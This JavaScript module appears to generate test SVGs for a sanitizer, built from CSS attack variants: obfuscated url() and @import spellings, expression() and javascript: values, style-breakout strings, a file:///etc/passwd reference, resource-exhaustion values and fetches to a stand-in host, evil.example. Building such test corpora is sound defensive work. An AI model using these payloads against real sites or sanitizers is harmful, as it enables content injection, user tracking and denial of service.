// SPDX-License-Identifier: Apache-2.0
// Attacks by style sheets, style attributes and presentation attributes: addresses in every spelling, and what CSS can do besides.
import { OUT, svg } from './markup.mjs';

const escape = (s, how) => [...s].map((c) => how(c.codePointAt(0).toString(16), c)).join('');
const hex = (h) => `\\${h} `;
const six = (h) => `\\${h.padStart(6, '0')}`;
const upper = (h) => `\\${h.toUpperCase()}\n`;
const every = (h, c) => (/[0-9a-f]/i.test(c) ? `\\${h} ` : `\\${c}`);
// Spellings of the function's name, of what stands between its parentheses, and what follows.
const urlNames = ['url', 'URL', 'uRl', ...[hex, six, upper, every].map((f) => escape('url', f)), '\\75rl', 'u\\72l', 'ur\\6c', '\\000075rl', 'u/**/rl', 'url/**/', 'src', 'SRC', 's\\72 c', 'url-prefix', 'domain', 'image', '-webkit-url', 'u\\\nrl', 'u\\0rl', '\uff55\uff52\uff4c', 'ur\u0131', 'ｕrl', 'url\u200b'];
const insides = [OUT, `"${OUT}"`, `'${OUT}'`, ` ${OUT} `, `\n"${OUT}"\n`, `\t'${OUT}'\f`, `"${OUT}`, `"http:\\\n//evil.example/"`, '//evil.example/', '\\2f/evil.example/', 'http\\3a //evil.example/', 'http:/**///evil.example', '"#a" x', '#a b', '#a)url(http://evil.example', '#a\\29', '#\\61', '"#\\61 "', '#a"', "#'a", '# a', '#', '', '""', 'a.svg#b', 'file:///etc/passwd', 'data:image/png;base64,AAAA', 'data:image/svg+xml,<svg/>', '"data:text/css,*{fill:red}"', 'javascript:alert(1)', '"java\\73 cript:1"', '"\\6a avascript:1"', '#xpointer(id(a))', '?#a', 'http://evil.example/#a', '#a/../b', '#a%22', '#\u202ea', '#a\\0', '<!--', '-->', '#a;fill:red', '#a}', '#a]', '#{{recipient.name}}', '{{verify.url}}'];
const wraps = {
  one: (n, i) => `${n}(${i})`, space: (n, i) => `${n} (${i})`, fallback: (n, i) => `${n}(${i}) red`, open: (n, i) => `${n}(${i}`, var: (n, i) => `var(--x, ${n}(${i}))`, 'image-set': (n, i) => `image-set(${n}(${i}) 1x)`, webkit: (n, i) => `-webkit-image-set(${n}(${i}) 1x)`, 'cross-fade': (n, i) => `cross-fade(${n}(${i}), red)`, important: (n, i) => `${n}(${i}) !important`, twice: (n, i) => `${n}(#p) ${n}(${i})`, comma: (n, i) => `red, ${n}(${i})`, paren: (n, i) => `(${n}(${i}))`,
};
const properties = ['fill', 'stroke', 'clip-path', 'mask', 'filter', 'marker', 'marker-start', 'marker-end', 'cursor', 'background', 'background-image', 'list-style-image', 'border-image', 'mask-image', '-webkit-mask', 'content', 'src', 'font', 'font-family', 'behavior', '-moz-binding', 'shape-inside', 'offset-path', 'color-profile', 'fi\\6cl', 'FILL', 'fill/**/', '*fill', '_fill', '--x', 'stop-color', 'transform', 'd', 'x', 'all', 'animation', 'transition', 'font-feature-settings', 'unicode-range', 'quotes', 'will-change'];
// Declarations that are attacks by themselves.
const values = {
  'var-chain': ['fill', 'var(--a)'], attr: ['fill', 'attr(href)'], 'attr-url': ['fill', 'url(attr(href))'], 'attr-type': ['width', 'attr(data-x px)'], env: ['fill', 'env(x, url(http://evil.example))'], expression: ['width', 'expression(alert(1))'], 'expr-comment': ['width', 'exp/**/ression(alert(1))'], 'expr-escape': ['width', '\\65xpression(alert(1))'], js: ['fill', 'javascript:alert(1)'], progid: ['filter', "progid:DXImageTransform.Microsoft.AlphaImageLoader(src='http://evil.example')"], calc: ['stroke-width', 'calc(1px + url(http://evil.example))'], 'calc-deep': ['stroke-width', `${'calc('.repeat(200)}1${')'.repeat(200)}`], huge: ['stroke-width', '1e999'], nan: ['stroke-width', 'NaN'], inf: ['stroke-width', 'infinity'], 'calc-inf': ['stroke-width', 'calc(infinity * 1px)'], neg: ['stroke-width', '-1'], 'neg-size': ['font-size', '-9'], 'huge-size': ['font-size', '1e6px'], 'size-percent': ['font-size', '100000%'], 'size-em': ['font-size', '9999em'], unit: ['stroke-width', '9vw'], q: ['stroke-width', '9Q'], long: ['font-family', 'a,'.repeat(3000)], dash: ['stroke-dasharray', '0.0001'], 'dash-many': ['stroke-dasharray', '1 '.repeat(300)], 'dash-zero': ['stroke-dasharray', '0 0'], 'dash-tiny-unit': ['stroke-dasharray', '0.00001em'], 'dash-percent': ['stroke-dasharray', '0.0001%'], 'dash-neg': ['stroke-dasharray', '-1 1'], 'dash-em': ['stroke-dasharray', '0.01ex'],
  'filter-blur': ['filter', 'blur(1e6px)'], 'filter-em': ['filter', 'blur(400em)'], 'filter-many': ['filter', 'blur(1px)'.repeat(50)], 'filter-shadow': ['filter', 'drop-shadow(1e6px 1e6px 1e6px red)'], 'filter-url-two': ['filter', 'url(#f) url(#f)'], 'filter-nested': ['filter', 'blur(blur(1px))'], 'filter-colour-url': ['filter', 'drop-shadow(1px 1px url(http://evil.example))'], 'transform-inf': ['transform', 'scale(1e999)'], 'transform-huge': ['transform', 'scale(1e6) scale(1e6) scale(1e6)'], 'transform-zero': ['transform', 'scale(0)'], 'transform-skew': ['transform', 'skewX(90deg)'], 'transform-calc': ['transform', 'rotate(calc(1deg*9))'], 'transform-var': ['transform', 'rotate(var(--a))'], 'transform-3d': ['transform', 'perspective(1px) rotate3d(1,1,1,9deg)'], 'colour-many': ['fill', 'rgb(1,2,3,4,5,6)'], 'colour-huge': ['fill', 'rgb(1e9,-1e9,1e999)'], 'colour-nan': ['fill', 'rgb(NaN,0,0)'], 'colour-icc': ['fill', '#fff icc-color(x, url(http://evil.example))'], 'colour-mix': ['fill', 'color-mix(in srgb, red, url(x))'], 'colour-hash': ['fill', '#12345'], 'colour-light': ['fill', 'light-dark(red, url(x))'], system: ['fill', 'ButtonText'], context: ['fill', 'context-fill'], 'family-quote': ['font-family', "'a\\27;}@import url(http://evil.example);b{'"], 'family-newline': ['font-family', '"a\\a b"'], 'family-tag': ['font-family', '"</style><script>"'], 'family-url': ['font-family', 'url(http://evil.example)'], 'family-ctl': ['font-family', '"a\\1 b"'], 'family-bidi': ['font-family', '"a\\202e b"'], 'family-braces': ['font-family', '"{{recipient.name}}"'], weight: ['font-weight', '1e9'], spacing: ['letter-spacing', '1e6px'], 'spacing-neg': ['letter-spacing', '-1e6'], shift: ['baseline-shift', '1e999%'], opacity: ['opacity', '1e999'], 'opacity-neg': ['opacity', '-1'], blend: ['mix-blend-mode', 'url(x)'], display: ['display', 'none;display:url(x)'], miter: ['stroke-miterlimit', '1e9'], 'miter-neg': ['stroke-miterlimit', '-1'], overflow: ['overflow', 'url(x)'], content: ['content', '"{{recipient.name}}"'], counter: ['counter-reset', 'a 1e9'],
};
// Whole sheets around one declaration list D.
const sheets = {
  rule: 'rect{D}', universal: '*{D}', media: '@media all{rect{D}}', 'media-screen': '@media screen and (min-width:1px){rect{D}}', supports: '@supports (fill:red){rect{D}}', layer: '@layer a{rect{D}}', container: '@container (width>0){rect{D}}', scope: '@scope{rect{D}}', page: '@page{D}', document: '@document url(http://evil.example){rect{D}}', 'font-face': '@font-face{font-family:a;src:url(http://evil.example/a.ttf);D}', keyframes: '@keyframes a{from{D}}rect{animation:a 1s}', property: '@property --a{syntax:"<url>";initial-value:url(http://evil.example);D}', 'counter-style': '@counter-style a{symbols:url(http://evil.example);D}', nested: 'svg{rect{D}}', 'nested-amp': 'svg{& rect{D}}', cdo: '<!-- rect{D} -->', charset: '@charset "utf-7";rect{D}', namespace: '@namespace url(http://www.w3.org/1999/xhtml);rect{D}', 'namespace-prefix': '@namespace s url(http://www.w3.org/2000/svg);s|rect{D}', unclosed: 'rect{D', brace: '}rect{D}', semicolon: ';rect{D}', bracket: '[x="{"]{D}rect{D}', string: 'rect[x="}"]{D}', comment: 'rect/*{*/{/*}*/D}', escaped: 're\\63t{D}', bom: '\ufeffrect{D}', attrleak: 'rect[id^="a"]{D}', not: ':not(x){D}', has: ':has(rect){D}', is: ':is(rect,::x){D}', where: ':where(rect){D}', nth: 'rect:nth-child(99999999999n+1){D}', 'nth-neg': 'rect:nth-child(-n-99999999999){D}', lang: ':lang(en){D}', before: 'rect::before{content:url(http://evil.example);D}', host: ':host{D}', root: ':root{--a:url(http://evil.example);D}', link: 'a:visited{D}', percent: '@unknown{D}rect{D}', atnest: `${'@media all{'.repeat(300)}rect{D}${'}'.repeat(300)}`,
};
const imports = ['@import url(U);', '@import "U";', "@import 'U' screen;", '@IMPORT "U";', '@\\69mport "U";', '@\\000069 mport "U";', '@import/**/"U";', '@/**/import "U";', '@import\n"U"', '@import src("U");', '@import url("U") layer(a) supports(fill:red) all;', ';@import "U";', '<!--@import "U";-->', '@charset "x";@import "U";', '@layer a;@import "U";', 'x{}@import "U";', '@import "\\55";', '@import url(\\55);', "@import 'U", '@import url(U', '@im\\port "U";', '@ımport "U";', '@import "U"}', '{@import "U";}', '@media all{@import "U";}', '@import\\ "U";', '@ import "U";', '\\@import "U";'];
const xmlText = (s) => s.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
const quoted = (s) => xmlText(s).replaceAll('"', '&quot;').replaceAll('\n', '&#10;').replaceAll('\t', '&#9;').replaceAll('\f', ' ');
const body = '<linearGradient id="p"><stop stop-color="red"/></linearGradient><filter id="f"><feFlood/></filter><rect id="a" width="9" height="9"';
const clean = (s) => s.replace(/[\0\f]/g, ' ');

function* declared(name, property, value) {
  yield [`css-${name}-sheet`, svg(`<style>rect{${clean(xmlText(`${property}:${value}`))}}</style>${body}/>`)];
  yield [`css-${name}-style`, svg(`${body} style="${quoted(`${property}:${value}`)}"/>`)];
  if (/^[a-z-]+$/.test(property)) yield [`css-${name}-attr`, svg(`${body} data-n="1" ${property}="${quoted(value)}"/>`.replace(/ (width|height)="9"(?=.* \1=)/g, ''))];
}

export function* style() {
  for (const [n, name] of urlNames.entries())
    for (const [w, wrap] of Object.entries(wraps))
      yield* declared(`name-${n}-${w}`, ['fill', 'mask', 'filter'][n % 3], wrap(name, OUT));
  for (const [i, inside] of insides.entries())
    for (const [w, wrap] of Object.entries(wraps)) {
      yield* declared(`inside-${i}-${w}`, ['fill', 'clip-path', 'marker-start'][i % 3], wrap('url', inside));
      yield* declared(`inside-escaped-${i}-${w}`, ['filter', 'stroke'][i % 2], wrap('\\75 rl', inside));
    }
  for (const [p, property] of properties.entries())
    for (const [v, value] of [`url(${OUT})`, `url("${OUT}")`, '\\75rl(http://evil.example)', 'image-set("http://evil.example" 1x)'].entries()) yield* declared(`property-${p}-${v}`, property, value);
  for (const [name, [property, value]] of Object.entries(values)) yield* declared(`value-${name}`, property, value);
  for (const [name, sheet] of Object.entries(sheets))
    for (const [d, declaration] of [`fill:url(${OUT})`, `cursor:url(${OUT})`, 'fill:red;}@import url(http://evil.example);{', '--a:url(http://evil.example);fill:var(--a)'].entries())
      yield [`css-sheet-${name}-${d}`, svg(`<style>${xmlText(sheet.replaceAll('D', () => declaration))}</style>${body}/>`)];
  for (const [i, text] of imports.entries())
    for (const [t, tag] of ['<style>', '<style type="text/css">', '<style type="text/x-less">', '<style media="print">', '<s:style>', '<defs><style>'].entries())
      yield [`css-import-${i}-${t}`, svg(`${tag}${xmlText(text.replaceAll('U', OUT))} rect{fill:red}${t === 5 ? '</style></defs>' : tag.replace(/<(\S+?)[ >].*/, '</$1>')}${body}/>`)];
}
